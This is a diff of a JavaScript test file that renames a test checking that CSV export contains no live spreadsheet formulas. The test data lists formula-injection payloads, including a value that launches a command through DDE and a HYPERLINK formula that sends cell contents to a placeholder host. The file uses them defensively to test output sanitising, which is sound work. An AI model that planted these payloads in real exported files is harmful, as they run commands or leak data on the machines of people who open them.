@@ -144,7 +144,7 @@ test("our own command line takes a name that begins with a dash as the commands 
   assert.match(stdout, /^key_id +-rf$/m);
 });
 
-test("a dossier as CSV holds no formula, whatever was written into routes and clients", async () => {
+test("an investigation as CSV holds no formula, whatever was written into routes and clients", async () => {
   const formulas = ["=1+1", "-2+3+cmd|' /C calc'!A0", "+1", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1)', " =1;=1", "＝1"];
   const keyId = "k-of-formulas";
   const events = formulas.map((text, at) =>
